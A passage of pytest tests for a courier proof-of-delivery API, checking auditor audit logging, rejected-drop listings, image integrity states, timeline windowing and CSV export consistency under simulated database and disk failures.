    ids = session.scalars(
        select(QuarantinedEvent.id).where(
            QuarantinedEvent.tracking_no == refused["parcel"].tracking_no
        )
    ).all()
    assert (read.subject_type, read.subject_key) == ("quarantined_event", f"proof:{event_id}")
    assert read.details == {"tracking_no": refused["parcel"].tracking_no, "ids": sorted(ids)}
    assert read.tracking_no == refused["parcel"].tracking_no  # in the parcel's history
    assert len(ids) == 2


@pytest.mark.parametrize("failing", ["quarantine_record", "rendering", "search_rendering"])
def test_an_auditors_proof_page_that_fails_after_its_reads_leaves_no_read_on_record(
    app: Flask,
    session: Session,
    refused: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    failing: str,
) -> None:
    """An auditor opens the proof page of a parcel with rejected drops: two reads go on
    record, the proof's (``proof_read``) and the quarantine's (``quarantine_searched``).
    The page records them apart from its reading (``Database.write_apart``); recorded
    one by one, the proof's read stayed on record when the second write failed (on a
    SQLite file, the writers' turn taken again while PDAs push: busy, a 503) or the
    page failed to render after them, and the auditor was shown nothing. Both are
    recorded together, once the page is rendered: a page not shown leaves no read. So
    is the proofs page's search (``proofs_searched``)."""
    from sqlalchemy.exc import OperationalError

    from courier_api.web import views
    from sync import audit

    appended = audit.append

    def busy_at_the_second(**kwargs: Any) -> Any:
        if kwargs["action"] == "quarantine_searched":
            raise OperationalError("INSERT INTO audit_entry", {}, Exception("database is locked"))
        return appended(**kwargs)

    def broken(*_args: Any, **_kwargs: Any) -> str:
        raise RuntimeError("the template failed")

    pages = signed_in(app, "auditor1")
    if failing == "quarantine_record":
        monkeypatch.setattr(audit, "append", busy_at_the_second)
    else:
        monkeypatch.setattr(views, "render_template", broken)
    before = session.scalars(select(AuditEntry.action)).all()

    path = f"/web/proofs/{refused['proof']['event_id']}"
    if failing == "search_rendering":
        path = f"/web/proofs?tracking_no={refused['parcel'].tracking_no}"
    try:
        response = pages.client.get(path)
        assert response.status_code >= 500, response.status_code
    except RuntimeError as error:  # raised through the test client
        assert failing != "quarantine_record", error

    session.expire_all()
    assert session.scalars(select(AuditEntry.action)).all() == before


def test_an_auditors_proof_detail_whose_record_fails_is_not_given(
    client: FlaskClient,
    auth: Auth,
    session: Session,
    refused: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``GET /proofs/<id>`` builds its whole answer, images hashed, before it records an
    auditor's read apart (``Database.write_apart``): a record that fails then (on a
    SQLite file, the writers' turn not had within the busy timeout while PDAs push)
    answers 503 ``database_unavailable``, the proof not shown, nothing on record."""
    from sqlalchemy.exc import OperationalError

    from sync import audit

    def busy(**_kwargs: Any) -> Any:
        raise OperationalError("INSERT INTO audit_entry", {}, Exception("database is locked"))

    headers = auth.headers("auditor1")
    before = session.scalars(select(AuditEntry.action)).all()
    monkeypatch.setattr(audit, "append", busy)

    answer = client.get(f"/api/v1/proofs/{refused['proof']['event_id']}", headers=headers)

    assert answer.status_code == 503, answer.get_json()
    assert answer.get_json()["code"] == "database_unavailable"
    assert refused["parcel"].tracking_no not in answer.get_data(as_text=True)
    session.expire_all()
    assert session.scalars(select(AuditEntry.action)).all() == before


def test_an_auditors_proof_detail_whose_record_postgresql_aborts_once_is_run_again(
    client: FlaskClient,
    auth: Auth,
    session: Session,
    connection: Connection,
    refused: dict[str, Any],
) -> None:
    """The auditor's read, recorded apart once the answer is built, lost a race on the
    audit log (PostgreSQL aborted it for a deadlock). Nothing of the request was stored:
    ending its reading transaction first stored nothing. So the server runs it again
    (``Database.dispatched_retrying_conflicts``), as any request so aborted: 200, the
    read on record once. It answered 503 ``transaction_conflict``, the ended read
    counted as something of the request committed."""
    headers = auth.headers("auditor1")
    event_id = refused["proof"]["event_id"]

    with aborted(connection, "deadlock_detected", runs=1) as failed:
        answer = client.get(f"/api/v1/proofs/{event_id}", headers=headers)

    assert len(failed) == 1
    assert answer.status_code == 200, answer.get_json()
    read = (AuditEntry.action == "proof_read", AuditEntry.subject_key == str(event_id))
    assert len(session.scalars(select(AuditEntry.id).where(*read)).all()) == 1


def test_the_proof_page_and_detail_find_the_rejected_drops_however_the_pda_wrote_the_number(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A dispute: the PDA tried twice to leave the parcel in a locker, its number typed
    ``rr 4731 2482 9gb`` and ``RR-4731-2482-9GB`` (a rejected event is where a badly
    typed number is likely), both refused for a missing compartment, before the courier
    handed it over in person. The proof's page lists both, each with the number as the
    PDA wrote it, and its detail counts them: the auditor reading the proof learns of
    the PDA's attempts."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    tried = [
        factories.event(
            seq,
            written,
            "delivered_to_locker",
            occurred_at=at + dt.timedelta(minutes=seq),
            locker_id="L-7",
        )  # fmt: skip
        for seq, written in (
            (2, factories.typed_loosely(parcel.tracking_no)),
            (3, factories.typed_loosely(parcel.tracking_no, "-").upper()),
        )
    ]
    delivered = factories.event(
        4, parcel.tracking_no, "delivered", occurred_at=at + dt.timedelta(minutes=9), pod=SIGNED
    )
    receipt = auth.push(
        [factories.event(1, parcel.tracking_no, occurred_at=at), *tried, delivered]
    )
    assert [r["status"] for r in receipt["results"]] == [
        "applied",
        "rejected",
        "rejected",
        "applied",
    ]
    [proof] = _items(client, auth, parcel.tracking_no)

    html = signed_in(app, "auditor1").get(f"/web/proofs/{proof['event_id']}")

    rejected = _rejected_section(html)
    assert "(2)" in rejected
    for drop in tried:
        assert drop["client_event_id"] in rejected
        assert f'<td class="tn">{drop["tracking_no"]}</td>' in rejected
    detail = client.get(f"{URL}/{proof['event_id']}", headers=auth.headers("auditor1"))
    assert detail.get_json()["rejected_events"] == 2


def test_the_proof_page_lists_the_newest_20_rejected_events_and_says_where_the_rest_are(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A broken PDA sends the same bad drop again and again: the page lists the newest
    20 and points to the quarantine's list for the rest, rather than growing without
    bound. Its heading counts them all, as the proof's detail does: it said "(20 and
    more)" where the API said 25, to an auditor settling a dispute with both."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    bad = [
        factories.event(seq, parcel.tracking_no, "delivered_to_locker", occurred_at=at)
        for seq in range(2, 27)
    ]
    delivered = factories.event(27, parcel.tracking_no, "delivered", occurred_at=at, pod=SIGNED)
    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), *bad, delivered])
    [proof] = _items(client, auth, parcel.tracking_no)
    event_id = proof["event_id"]

    html = signed_in(app, "auditor1").get(f"/web/proofs/{event_id}")

    rejected = _rejected_section(html)
    assert "Rejected events naming the parcel (25)" in rejected
    assert "The newest 20 are listed, 5 more are not" in rejected
    detail = client.get(f"{URL}/{event_id}", headers=auth.headers("auditor1"))
    assert detail.get_json()["rejected_events"] == 25
    assert [e["client_event_id"] in rejected for e in bad] == [False] * 5 + [True] * 20
    assert f"GET /api/v1/quarantine?tracking_no={parcel.tracking_no}" in rejected
    [read] = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "quarantine_searched")
    ).all()
    assert len(read.details["ids"]) == 20


def test_the_proof_page_says_one_rejected_event_past_the_newest_20_in_the_singular(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """21 rejected drops: the page said "The newest 20 are listed, 1 more are not"."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=1)
    bad = [
        factories.event(seq, parcel.tracking_no, "delivered_to_locker", occurred_at=at)
        for seq in range(2, 23)
    ]
    delivered = factories.event(23, parcel.tracking_no, "delivered", occurred_at=at, pod=SIGNED)
    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), *bad, delivered])
    [proof] = _items(client, auth, parcel.tracking_no)

    rejected = _rejected_section(
        signed_in(app, "auditor1").get(f"/web/proofs/{proof['event_id']}")
    )
    assert "Rejected events naming the parcel (21)" in rejected
    assert "The newest 20 are listed, 1 more is not:" in rejected


def test_a_proofs_detail_counts_the_rejected_events_naming_its_parcel_as_the_reader_may_list(
    client: FlaskClient, auth: Auth, session: Session, refused: dict[str, Any]
) -> None:
    """The API's proof detail says how many (``rejected_events``), as
    ``GET /quarantine?tracking_no=`` lists them for the same reader (a manager their
    station's, auditors and admins every station's); the count shows no payload, so it
    logs no read of the quarantine."""
    url = f"{URL}/{refused['proof']['event_id']}"
    tracking_no = refused["parcel"].tracking_no
    for username, count in (("manager1", 1), ("auditor1", 2), ("admin", 2)):
        headers = auth.headers(username)
        assert client.get(url, headers=headers).get_json()["rejected_events"] == count
        listed = client.get(
            "/api/v1/quarantine", query_string={"tracking_no": tracking_no}, headers=headers
        ).get_json()["items"]
        assert len(listed) == count
    assert session.scalars(
        select(AuditEntry.action).where(AuditEntry.action == "quarantine_searched")
    ).all() == ["quarantine_searched"]  # the auditor's list, not their proof's detail


def test_a_proof_with_no_rejected_event_says_none(
    app: Flask, client: FlaskClient, auth: Auth, day: dict[str, Any], session: Session
) -> None:
    [item] = _items(client, auth, day["signed"].tracking_no)
    url = f"{URL}/{item['event_id']}"
    assert client.get(url, headers=auth.headers("auditor1")).get_json()["rejected_events"] == 0
    html = signed_in(app, "auditor1").get(f"/web/proofs/{item['event_id']}")
    assert "(0)" in _rejected_section(html) and "None." in _rejected_section(html)
    logged = session.scalars(select(AuditEntry.action)).all()
    assert "quarantine_searched" not in logged


def test_a_proof_gives_an_auditor_its_clocks_its_seq_and_whether_its_images_arrived(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """A recipient says the parcel never came; the courier's proof is a signature and a
    photo. The auditor needs what the PDA's clock said and the correction applied (the
    offset: a PDA 2 minutes fast), its seq (its place in the PDA's order, against a
    consent's), and each image's digest with whether it ever arrived: the proof gave the
    digests only, and a signature that never arrived looked like one held."""
    from tests.courier_api.test_blobs_api import digest, image_bytes

    parcel = factories.parcel(session, world.station)
    session.commit()
    photo = image_bytes()
    pod = {"recipient_name": "Li", "relation": "self"}
    pod |= {"signature_sha256": "c" * 64, "photo_sha256": digest(photo)}
    fast = dt.timedelta(minutes=2)
    at = now() - dt.timedelta(minutes=30)
    events = [
        factories.event(1, parcel.tracking_no, occurred_at=at + fast),
        factories.event(2, parcel.tracking_no, "delivered", occurred_at=at + fast, pod=pod),
    ]
    headers = auth.headers("courier1", "PDA-0001")
    body = factories.push_body("PDA-0001", events, sent_at=now() + fast)
    assert client.post("/api/v1/sync/push", json=body, headers=headers).status_code == 200
    put = client.put(f"/api/v1/blobs/{digest(photo)}", data=photo, headers=headers)
    assert put.status_code in (200, 201), put.get_json()
    auditor = auth.headers("auditor1")
    [found] = client.get(URL, headers=auditor).get_json()["items"]
    proof = client.get(f"{URL}/{found['event_id']}", headers=auditor).get_json()
    for view in (found, proof):
        assert view["seq"] == 2
        assert abs(view["clock_offset_ms"] - 120_000) < 5_000  # the push's own estimate
        device = dt.datetime.fromisoformat(view["occurred_at_device"])
        corrected = dt.datetime.fromisoformat(view["occurred_at"])
        applied = (device - corrected) / dt.timedelta(milliseconds=1)
        assert abs(applied - view["clock_offset_ms"]) < 1  # in whole milliseconds
        signature, image = view["images"]
        assert (signature["role"], signature["sha256"], signature["arrived_at"]) == (
            "signature",
            "c" * 64,
            None,  # never arrived
        )
        assert (image["role"], image["sha256"], image["purged_at"]) == (
            "photo",
            digest(photo),
            None,
        )
        assert image["arrived_at"] is not None
    [row] = _export(client, auth, {})
    assert (row["seq"], row["clock_offset_ms"]) == ("2", str(found["clock_offset_ms"]))
    assert row["signature_arrived_at"] == ""
    assert row["photo_arrived_at"] == found["images"][1]["arrived_at"]


def test_a_delivery_scanned_twice_is_listed_as_a_repeat_of_its_first_scan(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The scanner beeped twice at the door: one delivery, two scans. The balance folds
    the second into the first (``repeated_scans``); an auditor counting proofs of a
    disputed parcel must see that the second is no second delivery, in the search, the
    detail and the export alike. A delivery after a new check-out is one of its own."""
    parcel = factories.parcel(session, world.station)
    session.commit()
    at = now() - dt.timedelta(hours=2)
    scans = [
        factories.event(1, parcel.tracking_no, occurred_at=at),
        factories.event(2, parcel.tracking_no, "delivered", occurred_at=at, pod=SIGNED),
        factories.event(
            3,
            parcel.tracking_no,
            "delivered",
            occurred_at=at + dt.timedelta(seconds=4),
            pod=SIGNED,
        ),
        factories.event(4, parcel.tracking_no, occurred_at=at + dt.timedelta(minutes=30)),
        factories.event(
            5,
            parcel.tracking_no,
            "delivered",
            occurred_at=at + dt.timedelta(minutes=50),
            pod=SIGNED,
        ),
    ]
    auth.push(scans)
    auditor, query = auth.headers("auditor1"), {"tracking_no": parcel.tracking_no}
    items = client.get(URL, query_string=query, headers=auditor).get_json()["items"]
    first, again, later = (item["event_id"] for item in items)
    assert [item["repeat_of"] for item in items] == [None, first, None]
    details = [client.get(f"{URL}/{i}", headers=auditor).get_json() for i in (first, again)]
    assert [d["repeat_of"] for d in details] == [None, first]
    rows = _export(client, auth, query)
    assert [(r["event_id"], r["repeat_of"]) for r in rows] == [
        (str(first), ""),
        (str(again), str(first)),
        (str(later), ""),
    ]
    pages = signed_in(app, "auditor1")
    listing = pages.get(f"/web/proofs?tracking_no={parcel.tracking_no}")
    rows = {i: listing.split(f'id="proof-{i}"')[1].split("</tr>")[0] for i in (first, again)}
    assert "scanned again" not in rows[first]
    assert (
        f'scanned again: the delivery of <a href="/web/proofs/{first}">#{first}</a>'
        in (rows[again])
    )
    assert "scanned again" in pages.get(f"/web/proofs/{again}")
    assert "scanned again" not in pages.get(f"/web/proofs/{first}")


def test_a_proofs_detail_says_whether_each_images_stored_bytes_are_still_the_image(
    app: Flask, client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """The recipient says the signature is not theirs. ``arrived_at`` said the image
    arrived; whether the file in the store is still that image, the proof page knew
    and the API did not. The detail hashes each image's file: the photo replaced in
    the store reads ``altered``, the signature ``intact``; then, the signature's file
    gone, ``missing``, the photo purged, ``purged``. The search does not hash."""
    from tests.courier_api.test_blobs_api import digest, image_bytes

    parcel = factories.parcel(session, world.station)
    session.commit()
    signature, photo = image_bytes(), image_bytes(size=(9, 7))
    assert digest(signature) != digest(photo)
    pod = {"recipient_name": "Li", "signature_sha256": digest(signature)}
    pod |= {"photo_sha256": digest(photo)}
    at = now() - dt.timedelta(minutes=30)
    auth.push(
        [
            factories.event(1, parcel.tracking_no, occurred_at=at),
            factories.event(2, parcel.tracking_no, "delivered", occurred_at=at, pod=pod),
        ]
    )
    headers = auth.headers("courier1", "PDA-0001")
    for image in (signature, photo):
        put = client.put(f"/api/v1/blobs/{digest(image)}", data=image, headers=headers)
        assert put.status_code == 201, put.get_json()
    auditor = auth.headers("auditor1")
    [found] = client.get(URL, headers=auditor).get_json()["items"]
    assert all("integrity" not in image for image in found["images"])

    def integrity() -> list[tuple[str, str]]:
        proof = client.get(f"{URL}/{found['event_id']}", headers=auditor).get_json()
        return [(image["role"], image["integrity"]) for image in proof["images"]]

    assert integrity() == [("signature", "intact"), ("photo", "intact")]
    store = FileBlobStore(app.config["BLOB_DIR"])
    store.path(digest(photo)).write_bytes(photo[:-1] + b"\x00")  # same length, other bytes
    assert integrity() == [("signature", "intact"), ("photo", "altered")]
    store.path(digest(signature)).unlink()
    blob = session.get(Blob, digest(photo))
    assert blob is not None
    blob.purged_at = now()
    session.commit()
    assert integrity() == [("signature", "missing"), ("photo", "purged")]


def test_a_proof_read_the_image_store_failed_is_not_on_record_as_read(
    app: Flask,
    client: FlaskClient,
    auth: Auth,
    session: Session,
    world: World,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The store's disk fails (EIO) while an auditor opens a disputed proof: the detail
    hashes its images and answers 503 ``blob_store_unavailable``, showing nothing. The
    audit log recorded a ``proof_read`` for it all the same, then another on the retry
    that showed the proof: two reads where the auditor read it once. As an image's own
    read (``GET /blobs/<sha256>``), the store is read before the read is put on record;
    the proof page likewise."""
    import errno
    import os
    from pathlib import Path

    from tests.courier_api.test_blobs_api import digest, image_bytes

    parcel = factories.parcel(session, world.station)
    session.commit()
    signature = image_bytes()
    pod = {"recipient_name": "Li", "signature_sha256": digest(signature)}
    at = now() - dt.timedelta(minutes=30)
    auth.push(
        [
            factories.event(1, parcel.tracking_no, occurred_at=at),
            factories.event(2, parcel.tracking_no, "delivered", occurred_at=at, pod=pod),
        ]
    )
    put = client.put(
        f"/api/v1/blobs/{digest(signature)}",
        data=signature,
        headers=auth.headers("courier1", "PDA-0001"),
    )
    assert put.status_code == 201, put.get_json()
    auditor = auth.headers("auditor1")
    [found] = client.get(URL, headers=auditor).get_json()["items"]
    pages = signed_in(app, "auditor1")

    def reads(action: str = "proof_read") -> int:
        query = select(AuditEntry).where(AuditEntry.action == action)
        return len(session.scalars(query).all())

    searches = reads("proofs_searched")

    def open_file(self: Path, *args: Any, **kwargs: Any) -> Any:
        raise OSError(errno.EIO, os.strerror(errno.EIO), str(self))

    with monkeypatch.context() as broken:
        broken.setattr(Path, "open", open_file)
        failed = client.get(f"{URL}/{found['event_id']}", headers=auditor)
        assert failed.status_code == 503, failed.get_json()
        assert failed.get_json()["code"] == "blob_store_unavailable"
        pages.get(f"/web/proofs/{found['event_id']}", status=503)
        # The search reads no image file (its proof's page says whether they are
        # intact): it shows the proof, and is on record as the search it was.
        listed = pages.get(f"/web/proofs?tracking_no={parcel.tracking_no}")
        assert f'href="/web/proofs/{found["event_id"]}#images">signature</a>' in listed
    assert reads() == 0
    assert reads("proofs_searched") == searches + 1

    read = client.get(f"{URL}/{found['event_id']}", headers=auditor)
    assert read.status_code == 200
    assert [image["integrity"] for image in read.get_json()["images"]] == ["intact"]
    pages.get(f"/web/proofs/{found['event_id']}")
    assert reads() == 2  # the retries that showed the proof, once each


@contextmanager
def sent_with_parameters(connection: Connection) -> Iterator[list[tuple[str, Any]]]:
    statements: list[tuple[str, Any]] = []

    def note(_conn: Any, _cursor: Any, statement: str, parameters: Any, *_args: Any) -> None:
        statements.append((statement, parameters))

    event.listen(connection, "before_cursor_execute", note)
    try:
        yield statements
    finally:
        event.remove(connection, "before_cursor_execute", note)


def test_a_pda_flooding_its_history_costs_no_read_of_a_proof_a_walk_of_it(
    app: Flask,
    client: FlaskClient,
    auth: Auth,
    world: World,
    session: Session,
    connection: Connection,
) -> None:
    """Whether a correction voided an event (a delivery, a captured consent) is one
    probe of the index of the PDA's corrections (``ix_scan_event_voids``). SQLite, which
    keeps no statistics, took the PDA's (device, seq) key instead and read every event
    the PDA recorded after each one: a courier's PDA that pushed 25,000 events (5,000 a
    push, one parcel's consents and drops, each stored by rule 1) made a search of that
    parcel's proofs take two minutes of a worker, a page of 5 of them one. Every statement
    the reads of a proof send (the search, the detail, the proof's page, the shift's
    balance) looks corrections up through that index. (PostgreSQL's plans, with its
    statistics, are tests/courier_api/test_query_plans.py's.)"""
    if connection.dialect.name != "sqlite":
        pytest.skip("SQLite's planner: PostgreSQL's plans are test_query_plans.py's")
    tn = factories.parcel(session, world.station).tracking_no
    session.commit()
    shift_id = client.post("/api/v1/shifts", headers=auth.headers("courier1", "PDA-0001"))
    captured = factories.event(
        2, tn, "consent_captured", consent={"method": "any", "channel": "in_person"}
    )
    auth.push(
        [
            factories.event(1, tn),
            captured,
            factories.locker_drop(3, tn, dt.datetime.now(dt.UTC) - dt.timedelta(hours=2)),
            factories.event(
                4, tn, "correction", voids_client_event_id=captured["client_event_id"], reason="x"
            ),
        ]
    )
    auditor = auth.headers("auditor1")
    with sent_with_parameters(connection) as sent:
        found = client.get(URL, headers=auditor, query_string={"tracking_no": tn}).get_json()
        (proof,) = found["items"]
        assert client.get(f"{URL}/{proof['event_id']}", headers=auditor).status_code == 200
        signed_in(app, "auditor1").get(f"/web/proofs/{proof['event_id']}")
        balance = f"/api/v1/shifts/{shift_id.get_json()['id']}/balance"
        assert client.get(balance, headers=auth.headers("manager1")).status_code == 200
    probes = [
        (row[3], statement)
        for statement, parameters in sent
        if "voids_client_event_id" in statement
        for row in connection.exec_driver_sql(f"EXPLAIN QUERY PLAN {statement}", parameters)
        if " correction " in f" {row[3]} "
    ]
    assert probes, "no statement looked up a correction"
    walks = [(plan, statement) for plan, statement in probes if "ix_scan_event_voids" not in plan]
    assert not walks, [(p, s[:60], s[-160:]) for p, s in walks]


def test_a_page_of_one_parcels_proofs_folds_its_history_once_not_once_a_proof(
    client: FlaskClient,
    auth: Auth,
    world: World,
    session: Session,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Which scan a drop is judged by (the first of the outcome it repeats,
    ``sync.rules.first_scans``) folds the parcel's whole history, and a drop's span
    (``sync.rules.drop_span``) reads it too. A page of proofs folded it again for each
    drop on it, and worked each span out again for each consent judged against the
    drop: a PDA that pushed 25,000 events of one parcel, its drops among them, made the
    default page of 100 of that parcel's proofs take two minutes of a worker. The history
    is folded once a parcel now, and a drop's span worked out once."""
    tn = factories.parcel(session, world.station).tracking_no
    session.commit()
    start = dt.datetime.now(dt.UTC) - dt.timedelta(hours=3)
    drops = [
        factories.event(
            seq,
            tn,
            "delivered_to_locker",
            occurred_at=start + dt.timedelta(minutes=seq),
            locker_id="L-1",
            compartment=str(seq),  # another place each time: another outcome, not a repeat
        )
        for seq in range(2, 8)
    ]
    auth.push([factories.event(1, tn, occurred_at=start), *drops])
    app1 = auth.headers("app1")
    now = dt.datetime.now(dt.UTC).isoformat()
    for _ in range(3):  # consents given after the drops: each judged against each drop
        consent = {"tracking_no": tn, "method": "locker", "channel": "app", "granted_at": now}
        assert client.post("/api/v1/consents", json=consent, headers=app1).status_code == 201
    folded: list[int] = []
    spans: list[int] = []
    real_folded, real_span = rules._folded, rules.drop_span

    def counted_folded(events: Any) -> Any:
        folded.append(len(events))
        return real_folded(events)

    def counted_span(drop: Any, policy: Any, history: Any) -> Any:
        spans.append(drop.fact.event_id)
        return real_span(drop, policy, history)

    monkeypatch.setattr(rules, "_folded", counted_folded)
    monkeypatch.setattr(rules, "drop_span", counted_span)
    monkeypatch.setattr(proofs, "drop_span", counted_span)
    found = client.get(URL, headers=auth.headers("auditor1"), query_string={"tracking_no": tn})
    page = found.get_json()["items"]
    assert len(page) == len(drops) and not any(p["authorizing_consent"] for p in page)
    # One fold for the repeats the page shows, one for the drops' consents; each drop's
    # span (its PDA's events around it) worked out once, not once per consent.
    assert len(folded) <= 2, folded
    assert sorted(spans) == sorted(p["event_id"] for p in page), spans


def test_a_proof_of_a_flooded_parcel_answers_the_stretch_of_its_timeline_around_it(
    app: Flask, client: FlaskClient, auth: Auth, world: World, session: Session
) -> None:
    """A proof answered its parcel's whole timeline: 14.7 MB for a parcel a PDA scanned
    25,000 times (docs/BENCHMARKS.md, "A flooded parcel"), each event read twice. A
    timeline of no more than a page (500 events: every parcel but such a one) is still
    answered whole; a longer one, the 500 events nearest the delivery, as many before it
    as after, saying where they start (``timeline_offset``) and how many there are
    (``timeline_total``): the same entries the parcel's own pages hold there. The web
    page of the proof says so too."""
    tn = factories.parcel(session, world.station).tracking_no
    session.commit()
    start = dt.datetime.now(dt.UTC) - dt.timedelta(hours=3)
    scans = [
        factories.event(
            seq,
            tn,
            "checked_out" if seq == 1 else "out_for_delivery",
            occurred_at=start + dt.timedelta(seconds=seq),
        )
        for seq in range(1, 701)
    ]
    scans[399] = factories.event(
        400,
        tn,
        "delivered",
        occurred_at=start + dt.timedelta(seconds=400),
        pod={"recipient_name": "Li Lei", "relation": "self"},
    )
    auth.push(scans)
    auditor = auth.headers("auditor1")
    whole: list[dict] = []
    query: dict[str, Any] = {}
    while True:
        page = client.get(f"/api/v1/parcels/{tn}", query_string=query, headers=auditor).json
        whole += page["timeline"]
        if page["next_cursor"] is None:
            break
        query = {"cursor": page["next_cursor"]}
    assert len(whole) == 700
    (delivered,) = [e for e in whole if e["type"] == "delivered"]
    proof = client.get(f"{URL}/{delivered['event_id']}", headers=auditor).json
    assert (proof["timeline_offset"], proof["timeline_total"]) == (149, 700)
    assert proof["timeline"] == whole[149:649]
    assert proof["timeline"][250]["event_id"] == delivered["event_id"]
    first = client.get(f"{URL}/{delivered['event_id']}", headers=auditor).json
    assert first["timeline"] == proof["timeline"]
    html = signed_in(app, "auditor1").get(f"/web/proofs/{delivered['event_id']}")
    text = " ".join(html.split())
    assert (
        "The 500 events nearest this delivery are listed, 150 to 649 of the parcel's 700" in text
    )
    assert text.count('<td class="received">') == 500


def test_each_part_of_a_streamed_export_keeps_where_the_auditor_read_it_from(
    client: FlaskClient, auth: Auth, day: dict[str, Any], session: Session
) -> None:
    """The export writes its audit entries as it streams, after the view has returned:
    each part keeps the client's address as a search does (``client_ip``), not none."""
    address = {"REMOTE_ADDR": "198.51.100.23"}
    response = client.get(
        f"{URL}/export.csv", headers=auth.headers("auditor1"), environ_base=address
    )
    assert response.status_code == 200 and response.data
    session.expire_all()
    parts = session.scalars(select(AuditEntry).where(AuditEntry.action == "proofs_exported"))
    assert [e.client_ip for e in parts] == ["198.51.100.23"]


def test_the_export_says_when_a_proofs_images_were_purged(
    client: FlaskClient, auth: Auth, session: Session, world: World
) -> None:
    """After the retention purge an image's bytes are gone (its read a 410 `blob_purged`),
    which the search and the proof say (`purged_at`); the export said only when each
    image arrived, so an auditor working from the CSV took a purged photo for one still
    held. It now says when each was purged (`signature_purged_at`, `photo_purged_at`,
    empty while held), in columns added last."""
    from tests.courier_api.test_blobs_api import digest, image_bytes

    parcel = factories.parcel(session, world.station)
    session.commit()
    signature, photo = image_bytes(), image_bytes(size=(9, 7))
    pod = {"signature_sha256": digest(signature), "photo_sha256": digest(photo)}
    at = now() - dt.timedelta(minutes=30)
    events = [
        factories.event(1, parcel.tracking_no, occurred_at=at),
        factories.event(2, parcel.tracking_no, "delivered", occurred_at=at, pod=pod),
    ]
    headers = auth.headers("courier1", "PDA-0001")
    body = factories.push_body("PDA-0001", events)
    assert client.post("/api/v1/sync/push", json=body, headers=headers).status_code == 200
    for image in (signature, photo):
        put = client.put(f"/api/v1/blobs/{digest(image)}", data=image, headers=headers)
        assert put.status_code == 201, put.get_json()
    purged = now().replace(microsecond=0)
    session.get(Blob, digest(photo)).purged_at = purged
    session.commit()
    [found] = client.get(URL, headers=auth.headers("auditor1")).get_json()["items"]
    assert [image["purged_at"] for image in found["images"]] == [None, purged.isoformat()]
    [row] = _export(client, auth, {})
    assert list(row)[-2:] == ["signature_purged_at", "photo_purged_at"]
    assert row["signature_purged_at"] == ""
    assert row["photo_purged_at"] == purged.isoformat()


def test_an_export_holds_a_delivery_committed_late_below_an_id_it_read_already(
    client: FlaskClient,
    auth: Auth,
    session: Session,
    world: World,
    connection: Connection,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A delivery's id is taken when its push stores it, not when the push commits: on
    PostgreSQL a push committing late holds a lower id than deliveries the export read
    already, and the export's next batch, read by id after them, skipped it. The export
    left out a delivery stored before it ended, which an auditor took for none. Here the
    first delivery is not one yet (as a push not committed) when the first batch is
    read, and becomes one (the push commits) right after: it comes in a last part,
    audit-logged as every part is."""
    parcels = [factories.parcel(session, world.station) for _ in range(3)]
    session.commit()
    at = now() - dt.timedelta(hours=1)
    auth.push(
        [factories.event(seq, p.tracking_no, occurred_at=at) for seq, p in enumerate(parcels, 1)]
        + [
            factories.event(seq, p.tracking_no, "delivered", occurred_at=at, pod={})
            for seq, p in enumerate(parcels, 4)
        ]
    )
    delivered = session.scalars(
        select(ScanEvent.id).where(ScanEvent.type == EventType.DELIVERED).order_by(ScanEvent.id)
    ).all()
    late = delivered[0]

    def commit_late(event_type: EventType) -> None:
        connection.execute(update(ScanEvent).where(ScanEvent.id == late).values(type=event_type))

    commit_late(EventType.OUT_FOR_DELIVERY)  # stored, not committed yet
    session.commit()
    monkeypatch.setattr(proofs_routes, "EXPORT_BATCH", 1)
    list_proofs = proofs.list_proofs
    batches: list[list[int]] = []

    def listing(**kwargs: Any) -> list[proofs.Proof]:
        page = list_proofs(**kwargs)
        batches.append([p.event.id for p in page])
        if len(batches) == 1:  # the push commits once the first batch is read
            refusing = connection.connection.info.get("query_only", False)  # SQLite
            refuse_writes(connection, False)
            commit_late(EventType.DELIVERED)
            refuse_writes(connection, refusing)
        return page

    monkeypatch.setattr(proofs, "list_proofs", listing)
    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
    assert export.status_code == 200
    rows = exported(export.get_data(as_text=True))
    assert batches[0] == [delivered[1]]
    assert [int(row["event_id"]) for row in rows] == [delivered[1], delivered[2], late]
    session.expire_all()
    parts = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "proofs_exported").order_by(AuditEntry.id)
    ).all()
    assert [e.details["event_ids"] for e in parts] == [[delivered[1]], [delivered[2]], [late]]
    assert [e.details["part"] for e in parts] == [1, 2, 3]


def test_an_export_of_a_couriers_proofs_says_when_a_close_moved_one_it_wrote_already(
    client: FlaskClient,
    auth: Auth,
    session: Session,
    world: World,
    connection: Connection,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """An auditor exports one courier's proofs while a station manager closes a shift:
    the close files deliveries a colleague pushed from the courier's PDA under their own
    sign-in as the shift's courier's (``courier_id``). The export had written one of
    them already, and ended as complete: a file of the courier's proofs holding a
    delivery that is another courier's, which the search, walked at that moment, refuses
    (410). Its last line says the export changed under it and to export again, not that
    it is complete; the proofs it wrote stay written and on the audit log."""
    parcels = [factories.parcel(session, world.station) for _ in range(3)]
    session.commit()
    at = now() - dt.timedelta(hours=1)
    auth.push(
        [factories.event(seq, p.tracking_no, occurred_at=at) for seq, p in enumerate(parcels, 1)]
        + [
            factories.event(seq, p.tracking_no, "delivered", occurred_at=at, pod={})
            for seq, p in enumerate(parcels, 4)
        ]
    )
    delivered = delivered_ids(session)
    moved = delivered[0]
